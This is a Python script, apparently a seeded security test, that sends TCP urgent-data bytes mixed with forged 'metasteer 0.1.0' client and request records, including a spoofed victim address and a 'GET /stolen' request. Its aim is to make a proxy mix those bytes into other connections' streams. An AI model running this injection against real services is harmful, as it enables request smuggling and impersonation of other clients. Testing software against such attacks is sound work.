"""A guest that tries to get its bytes over others' with TCP's urgent mark.

    urgent-guest.py ATTEMPTS SEED

Each attempt fills what reads it from several connections with requests whose bodies are not complete, and sends on another one
pieces of about 16,384 bytes with urgent bytes between them, in any order, then ends its side. The bytes are what an attacker would
write: records of clients and requests in the layout of metasteer 0.1.0, over and over. Prints how many connections were made and
how many urgent bytes were sent.
"""
import random
import socket
import struct
import sys

ADDRESS = ("169.254.169.254", 80)
READ = 16384
VICTIM = b"10.99.99.99"
FILLERS = 7


def forged():
    """Two records of metasteer 0.1.0: a client of another address, and its request."""
    request = b"GET /stolen HTTP/1.1\r\nHost: a\r\n\r\n"
    request += b" " * (-len(request) % 8)
    client = struct.pack("<IiII48s", 1, 999, len(VICTIM), 1234, VICTIM)
    accepted = struct.pack("<IIII", 1, 300, 1, len(client)) + client
    return accepted + struct.pack("<IIII", 2, 300, 1, len(request)) + request


def connect():
    client = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    client.settimeout(5)
    client.connect(ADDRESS)
    return client


def fill(chance):
    """Requests that wait for more, so that what they sent has to be kept."""
    fillers = []
    for _ in range(FILLERS):
        client = connect()
        client.setblocking(False)
        head = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 60000\r\n\r\n"
        try:
            client.send(head + b"f" * chance.choice((READ, 2 * READ, 3 * READ)))
        except BlockingIOError:
            pass
        fillers.append(client)
    return fillers


def attack(chance, payload):
    """Returns how many urgent bytes were sent."""
    client = connect()
    urgent = 0
    pieces = chance.randint(1, 4)
    try:
        for piece in range(pieces):
            size = chance.choice((READ - 1, READ, READ + 1, READ - 2, 2 * READ - 1, chance.randint(1, 3 * READ)))
            at = chance.randrange(len(payload) // 8) * 8
            client.send((payload + payload)[at:at + size])
            if piece < pieces - 1 or chance.random() < 0.5:
                client.send(b"!", socket.MSG_OOB)
                urgent += 1
        if chance.random() < 0.8:
            client.shutdown(socket.SHUT_WR)
        elif chance.random() < 0.5:
            client.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    except OSError:
        pass
    return client, urgent


def main():
    attempts, chance = int(sys.argv[1]), random.Random(int(sys.argv[2]))
    payload = forged() * (4 * READ // len(forged()) + 1)
    # In a third of the attempts the bytes begin with a head, so that they are kept as a body.
    head = b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 65000\r\n\r\n"
    connections = urgent = 0
    for _ in range(attempts):
        try:
            fillers = fill(chance)
            client, sent = attack(chance, head + payload if chance.random() < 0.33 else payload)
        except OSError:
            continue
        connections += 1
        urgent += sent
        for each in (*fillers, client):
            each.close()
    print(connections, urgent)


main()
